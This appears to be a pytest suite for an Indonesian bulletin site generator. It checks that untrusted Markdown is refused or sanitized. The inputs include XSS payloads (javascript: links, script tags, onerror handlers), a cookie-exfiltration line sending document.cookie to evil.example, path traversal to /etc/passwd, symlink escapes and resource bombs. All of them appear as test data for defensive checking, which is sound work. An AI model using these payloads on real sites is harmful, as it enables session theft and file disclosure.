"""A pushed file is only partly trusted: it stays inside content/, runs no script on the
site and cannot stall the build. Each test plays one attacker's or careless editor's file."""

from __future__ import annotations

import dataclasses
import os
import time

import pytest
from warta.core.check import BulletinError
from warta.bulletins.reader import sanitize
from warta.core.schema import check_file, parse_date
from warta import build
from conftest import bulletin_text
from PIL import Image


def problems_of(rules, **changes) -> list[str]:
    return [str(p) for p in check_file("b.md", bulletin_text(**changes), rules)[1]]


# (test id, header changes, one exact problem that must be reported)
ATTACKS = [
    ("javascript link", {"body": "Daftar [di sini](javascript:alert(document.cookie))."},
     "b.md:9: text: a 'javascript:' link is not allowed because it can run script; link an https:// "
     "address or a file under content/"),
    ("obfuscated javascript link", {"body": "Daftar [di sini](JaVa&#x09;sCrIpt:alert(1))."},
     "b.md:9: text: a 'javascript:' link is not allowed because it can run script; link an https:// "
     "address or a file under content/"),
    ("vbscript reference link", {"body": "Lihat [formulir][f].\n\n[f]: vbscript:msgbox(1)"},
     "b.md:11: text: a 'vbscript:' link is not allowed because it can run script; link an https:// "
     "address or a file under content/"),
    ("data link in raw HTML", {"body": 'Klik <a href="data:text/html,<b>x</b>">ini</a>.'},
     "b.md:9: text: a 'data:' link is not allowed because it can run script; link an https:// "
     "address or a file under content/"),
    ("script tag", {"body": "Info.\n\n<script>fetch('//evil.example/'+document.cookie)</script>"},
     "b.md:11: text: raw HTML <script> is not allowed; write it in Markdown or as a plain link"),
    ("iframe", {"body": '<iframe src="https://evil.example/"></iframe>'},
     "b.md:9: text: raw HTML <iframe> is not allowed; write it in Markdown or as a plain link"),
    ("event handler", {"body": 'Foto: <img src="x.png" alt="x" onerror="alert(1)">'},
     "b.md:9: text: the HTML attribute onerror= runs script and is not allowed; remove it"),
    ("javascript in transcript", {"type": "Infografis", "image": "images/poster.png", "image_alt": "Poster",
                                  "transcript": "Jadwal:\n    [Daftar](javascript:alert(1))"},
     "b.md:11: transcript: a 'javascript:' link is not allowed because it can run script; link an "
     "https:// address or a file under content/"),
    ("image outside content", {"image": "../../../etc/passwd", "image_alt": "x"},
     "b.md:8: image: '../../../etc/passwd' points outside content/; keep the file under content/ and "
     "write its path from there, e.g. images/2021/poster.png"),
    ("video outside content", {"video": "media/../../secret.mp4"},
     "b.md:8: video: 'media/../../secret.mp4' points outside content/; keep the file under content/ "
     "and write its path from there, e.g. images/2021/poster.png"),
    ("video with a script URL", {"video": "javascript:alert(1)"},
     "b.md:8: video: 'javascript:alert(1)' is neither an https:// address nor a file under content/; "
     "change the address"),
    ("source URL that breaks out of the attribute", {"sources": 'Dinas | https://a.example/"><script>'},
     "b.md:8: sources: 'https://a.example/\"><script>' is not a web address; write 'Name | https://…' "
     "or just the name"),
    ("unsafe image name", {"image": "images/poster banjir.png", "image_alt": "Poster"},
     "b.md:8: image: the name 'images/poster banjir.png' has characters that are not safe in a web "
     "address; rename the file using letters, digits, '.', '_' and '-' only (no spaces)"),
    ("too many topics", {"topics": ", ".join(f"Topik {n}" for n in range(11))},
     "b.md:4: topics: 11 topics, more than 10; keep at most 10, the most important ones"),
    ("topic without a slug", {"topics": "Kesehatan, !!!"},
     "b.md:4: topics: the topic '!!!' gives no page address; use Latin letters or digits in its name"),
    ("control character", {"title": "Jadwal\x07 Posyandu"},
     "b.md:1: text: holds an invisible control character U+0007; delete it (it usually comes with "
     "text copied from another program)"),
    ("deep nesting", {"body": "".join("    " * i + "- a\n" for i in range(40))},
     "b.md:22: text: is nested 13 levels deep (quotes or lists within lists), more than 12; flatten it"),
    ("deep quotes", {"body": ">" * 600 + " kutipan"},
     "b.md:9: text: is nested 600 levels deep (quotes or lists within lists), more than 12; flatten it"),
    ("bracket bomb", {"body": "[a " * 2000},
     "b.md:9: text: one paragraph holds more than 300 '[' signs; split it with blank lines"),
]


@pytest.mark.parametrize("changes, expected", [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS])
def test_each_attack_is_refused_with_line_and_fix(rules, changes, expected):
    assert expected in problems_of(rules, **changes)


def test_oversized_text_is_refused_before_markdown_reads_it(rules):
    started = time.perf_counter()
    found = problems_of(rules, body="Paragraf panjang. " * 12_000)
    assert "b.md:9: text: the bulletin is 216 KB, more than 200 KB; split it into several bulletins " \
           "or attach a document" in found
    assert time.perf_counter() - started < 5


def test_image_pixel_bomb_and_non_image_are_refused(rules):
    Image.new("1", (8000, 6000)).save(rules.content_root / "images" / "besar.png")
    (rules.content_root / "images" / "palsu.png").write_text("bukan gambar")
    assert "b.md:8: image: the image 'images/besar.png' has 48 megapixels, more than 40; export it " \
           "again with its longest side at most 4000 pixels" in problems_of(rules, image="images/besar.png", image_alt="x")
    assert "b.md:8: image: 'images/palsu.png' is not an image that can be read; save it again as " \
           "PNG, JPEG or WebP" in problems_of(rules, image="images/palsu.png", image_alt="x")


def test_ordinary_text_with_code_and_links_passes(rules):
    body = ("Daftar di [situs resmi](https://karawangkab.go.id/) atau [kantor](mailto:a@b.go.id).\n\n"
            "```\n<script>contoh kode, bukan HTML</script>\n```\n\n- satu\n    - dua\n        - tiga")
    assert problems_of(rules, body=body) == []


def test_messages_are_indonesian_by_default(rules):
    indonesian = dataclasses.replace(rules, language="id")
    found = [str(p) for p in check_file("b.md", bulletin_text(body="[x](javascript:alert(1))"), indonesian)[1]]
    assert found == ["b.md:9: text: tautan 'javascript:' tidak diizinkan karena bisa menjalankan skrip; "
                     "tautkan alamat https:// atau berkas di bawah content/"]


def test_sanitizer_keeps_markdown_html_and_drops_what_runs():
    kept = ('<h2 id="a">Judul</h2>\n<p><strong>Penting</strong> <a href="https://a.example/" title="t">'
            'tautan</a> <img alt="Poster" src="/images/p.png"></p>\n<table>\n<thead>\n<tr>\n'
            '<th style="text-align:left">A</th>\n</tr>\n</thead>\n</table>')
    assert sanitize(kept) == kept
    assert sanitize('<p onclick="x()">a<script>alert(1)</script></p>') == "<p>a</p>"
    assert sanitize('<a href="javascript:alert(1)">x</a><a href=" JAVASCRIPT:alert(1)">y</a>') == "<a>x</a><a>y</a>"
    assert sanitize('<span style="position:fixed;inset:0">x</span><marquee>y</marquee>') == '<span style="">x</span>y'
    assert sanitize('<svg><script>alert(1)</script></svg><form action="//e"><input></form>') == ""


def test_raw_html_that_passes_the_check_is_sanitized_on_every_surface(site):
    body = ('Pengumuman <span style="position:fixed;top:0;left:0;width:100%;height:100%">DIBAJAK</span> '
            "<marquee>bergerak</marquee> <u>garis</u>.")
    site.add("a.md", bulletin_text(body=body))
    out = site.build()
    page = site.read("2020/06/jadwal-posyandu-bulan-juni/index.html")
    assert "position:fixed" not in page and "<marquee" not in page and "<u>garis</u>" in page
    feeds = [p for p in out.rglob("*") if p.suffix in (".xml", ".json") and p.is_file()]
    assert feeds
    for feed in feeds:
        text = feed.read_text(encoding="utf-8")
        assert "position:fixed" not in text and "marquee" not in text, feed
    lite = [p for p in (out / "lite").rglob("*.html")]
    assert lite and all("position:fixed" not in p.read_text(encoding="utf-8") for p in lite)


def test_symbolic_link_out_of_content_is_refused_and_nothing_behind_it_is_read(site, tmp_path):
    secret = tmp_path / "rahasia"
    secret.mkdir()
    (secret / "kunci.md").write_text(bulletin_text(code="KRW-200602-02", summary="RAHASIA-BOCOR"), encoding="utf-8")
    Image.new("RGB", (8, 8)).save(secret / "bocor.png")
    site.add("a.md", bulletin_text())
    os.symlink(secret / "kunci.md", site.content / "bulletins" / "kunci.md")
    os.symlink(secret, site.content / "images" / "folder")
    os.symlink(site.content / "images" / "poster.png", site.content / "images" / "salinan.png")  # inside: fine
    with pytest.raises(BulletinError) as failure:
        site.build()
    found = [str(p) for p in failure.value.problems]
    assert found == [
        f"content/bulletins/kunci.md: is a symbolic link to {secret / 'kunci.md'}, outside content/; "
        "replace it with the file or folder itself",
        f"content/images/folder: is a symbolic link to {secret}, outside content/; replace it with the "
        "file or folder itself",
    ] or found == [p.replace("is a symbolic", "adalah tautan") for p in found]
    assert not site.output.exists()


def test_static_link_out_of_content_is_never_published(site, tmp_path, caplog):
    (tmp_path / "rahasia.txt").write_text("KATA-SANDI")
    site.add("a.md", bulletin_text(body="Lihat [berkas]({static}/../rahasia.txt)."))
    with pytest.raises(build.BuildFailed):
        site.build()
    assert "../rahasia.txt: berada di luar content/ dan tidak diterbitkan" in caplog.text
    assert not site.output.exists() or "KATA-SANDI" not in "".join(
        p.read_text(errors="ignore") for p in site.output.rglob("*") if p.is_file())


def test_unsafe_published_file_name_is_refused(site):
    Image.new("RGB", (8, 8)).save(site.content / "images" / "foto banjir.png")
    site.add("a.md", bulletin_text())
    with pytest.raises(BulletinError) as failure:
        site.build()
    assert [p.path for p in failure.value.problems] == ["content/images/foto banjir.png"]


@pytest.mark.parametrize("body, message", [
    ("<script>alert(1)</script>", "content/pages/mitra.md:4: HTML mentah <script> tidak diizinkan"),
    ("[a " * 2000, "content/pages/mitra.md:4: satu paragraf memuat lebih dari 300 tanda '['"),
])
def test_pages_are_held_to_the_same_limits(site, caplog, body, message):
    site.add("a.md", bulletin_text())
    site.add_page("mitra", "Mitra", body)
    started = time.perf_counter()
    with pytest.raises(build.BuildFailed):
        site.build()
    assert "ERROR    warta.bulletins.reader:" in caplog.text and f" {message}" in caplog.text
    assert time.perf_counter() - started < 60


def test_published_files_that_can_carry_script_are_refused(site):
    (site.content / "images" / "peta.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    (site.content / "images" / "kabar.html").write_text("<script>alert(1)</script>")
    site.add("a.md", bulletin_text())
    with pytest.raises(BulletinError) as failure:
        site.build()
    assert [str(p) for p in failure.value.problems] == [
        "content/images/kabar.html: berkas berjenis '.html' tidak diterbitkan karena peramban bisa "
        "menjalankan skrip di dalamnya; ekspor gambar sebagai PNG, JPEG atau WebP, dokumen sebagai PDF",
        "content/images/peta.svg: berkas berjenis '.svg' tidak diterbitkan karena peramban bisa "
        "menjalankan skrip di dalamnya; ekspor gambar sebagai PNG, JPEG atau WebP, dokumen sebagai PDF",
    ]


def test_file_not_in_utf8_names_itself_and_the_fix(site):
    site.add("a.md", bulletin_text())
    (site.content / "bulletins" / "ansi.md").write_bytes(
        bulletin_text(code="KRW-200602-03", summary="Posyandu \u2019buka\u2019.", slug="ansi").encode("cp1252"))
    with pytest.raises(BulletinError) as failure:
        site.build()
    assert [(p.path, p.line) for p in failure.value.problems] == [("content/bulletins/ansi.md", 6)]
    assert "UTF-8" in failure.value.problems[0].message and "ANSI" in failure.value.problems[0].message


@pytest.mark.parametrize("typed, expected", [
    ("2 Juni 2020 10.00", "2020-06-02T10:00:00+07:00"),
    ("Selasa, 2 Juni 2020 10.00 WIB", "2020-06-02T10:00:00+07:00"),
    ("02/06/2020 10:00", "2020-06-02T10:00:00+07:00"),
    ("2020-06-02 10.00 WIB", "2020-06-02T10:00:00+07:00"),
    ("2020-06-02 pukul 10.00", "2020-06-02T10:00:00+07:00"),
    ("2 Agustus 2021 08.30 WITA", "2021-08-02T08:30:00+08:00"),
    ("2020-06-02T03:00Z", "2020-06-02T03:00:00+00:00"),
])
def test_date_forms_staff_type(typed, expected):
    assert parse_date(typed, "Asia/Jakarta").isoformat() == expected


def test_no_page_of_the_sample_site_carries_script_from_content(sample_site):
    """Whatever the lite edition, the full site, embeds and feeds print: no event handler,
    no script URL, no inline script other than JSON-LD data."""
    from bs4 import BeautifulSoup

    pages = sorted(sample_site.rglob("*.html"))
    assert len(pages) > 100
    for page in pages:
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        for tag in soup.find_all(True):
            handlers = [name for name in tag.attrs if name.lower().startswith("on")]
            assert not handlers, (page, tag.name, handlers)
            for name in ("href", "src", "action", "formaction", "poster"):
                value = "".join(str(tag.get(name, "")).split()).lower()
                assert not value.startswith(("javascript:", "vbscript:", "data:text")), (page, tag)
            if tag.name == "script":
                assert tag.get("src") or tag.get("type") == "application/ld+json", (page, tag)
